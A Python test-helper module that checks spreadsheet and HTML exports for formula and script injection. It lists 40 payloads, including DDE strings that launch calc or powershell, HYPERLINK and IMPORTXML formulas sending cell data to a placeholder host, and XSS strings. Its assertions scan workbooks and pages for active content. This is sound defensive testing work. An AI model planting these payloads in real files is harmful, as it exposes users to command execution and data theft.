"""Forty texts that somebody could put into a sheet, or a service into an answer, so that it acts where it is shown."""

from __future__ import annotations

import re
import unicodedata
import zipfile
from collections.abc import Iterable
from html.parser import HTMLParser
from pathlib import Path

from openpyxl.cell.cell import Cell

PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://127.0.0.1:9/?v=",A1),"//a")',
    '=IMPORTDATA("http://127.0.0.1:9/")',
    '=WEBSERVICE("http://127.0.0.1:9/")',
    '=DDE("cmd";"/C calc";"x")',
    "=2+5+cmd|'/C powershell'!A0",
    '=INDIRECT("A1")',
    "=SUM(1;2)",
    "=@SUM(1,2)",
    "==1+1",
    "={1;2}",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+49 170 1234567",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "-@SUM(1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\t@SUM(1)",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠A1",
    "'=1+1",
    '"=1+1"',
    'a",=1+1,"',
    "a;=1+1",
    "<script>alert(1)</script>=1+1",
    "\x1b[2J\x1b]0;=1+1\x07<img src=x onerror=alert(1)>",
)
"""Formulas as Excel, LibreOffice and Google Sheets know them, what is stripped from before them, marks and controls."""
assert len(PAYLOADS) == len(set(PAYLOADS)) == 40

ACTIVE = rb'<f[ >/]|TargetMode="External"|<ddeLink|<connection '
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def is_formula(text: str) -> bool:
    """Whether a program may take a cell of a CSV for a formula, however much it trims and folds before it looks."""
    folded = unicodedata.normalize("NFKC", text)
    kept = "".join(char for char in folded if unicodedata.category(char) not in ("Cf", "Zs", "Cc"))
    return kept.startswith(("=", "+", "-", "@")) or text.startswith(STARTS)


def assert_texts(cells: Iterable[Cell]) -> None:
    """Fail where a cell is not a text, or a text that Excel makes a formula of when somebody edits the cell."""
    for cell in cells:
        assert cell.data_type == "s"
        assert cell.quotePrefix or not str(cell.value).startswith(STARTS)


def assert_inactive(path: Path) -> None:
    """Fail where a workbook holds a formula, a link to the outside, or a data connection anywhere."""
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            assert not re.search(ACTIVE, package.read(name)), name


class Tags(HTMLParser):
    """What a browser makes of a page: its tags, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag and its attributes."""
        self.tags.add(tag)
        self.attributes.update(name for name, _ in attrs)

    def handle_data(self, data: str) -> None:
        """Note what is shown."""
        self.text += data


HARMLESS = {"table", "thead", "tbody", "tr", "th", "td", "p", "div", "b", "br", "style", "code"}


def assert_harmless(page: str) -> None:
    """Fail where a page has a tag that acts, an attribute that acts, or a control character."""
    seen = Tags(page)
    assert seen.tags <= HARMLESS
    assert seen.attributes <= {"style", "class", "border"}
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f]", page)


HARMLESS = {"table", "thead", "tbody", "tr", "th", "td", "p", "div", "b", "br", "style", "code"}
